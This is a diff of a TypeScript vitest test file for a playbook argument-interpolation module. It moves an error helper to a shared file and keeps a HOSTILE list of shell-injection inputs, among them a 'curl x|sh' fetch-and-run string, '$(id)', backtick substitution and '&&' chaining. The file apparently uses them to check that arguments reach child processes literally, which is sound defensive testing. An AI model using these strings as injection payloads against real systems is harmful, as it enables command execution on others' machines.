@@ -1,23 +1,12 @@
 import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
-import { UsageError } from '../../src/errors.ts';
+import { usageError } from '../helpers/errors.ts';
 import { fillArgs, fillText, placeholdersIn } from '../../src/playbook/interpolate.ts';
 
 /** What a real child process receives as argv (no shell in between, like the runner). */
 function argvSeenByChild(args: string[]): string[] {
   const out = execFileSync(process.execPath, ['-e', 'process.stdout.write(JSON.stringify(process.argv.slice(1)))', ...args], { encoding: 'utf8' });
   return JSON.parse(out) as string[];
-}
-
-/** The UsageError a call throws (fails the test if it does not throw one). */
-function usageError(fn: () => unknown): UsageError {
-  try {
-    fn();
-  } catch (error) {
-    expect(error).toBeInstanceOf(UsageError);
-    return error as UsageError;
-  }
-  throw new Error('expected a UsageError');
 }
 
 const HOSTILE = ['"; curl x|sh #', '$(id)', '`id`', 'a && b', '*', 'two words', "it's", 'a\nb', '{{secret}}'];
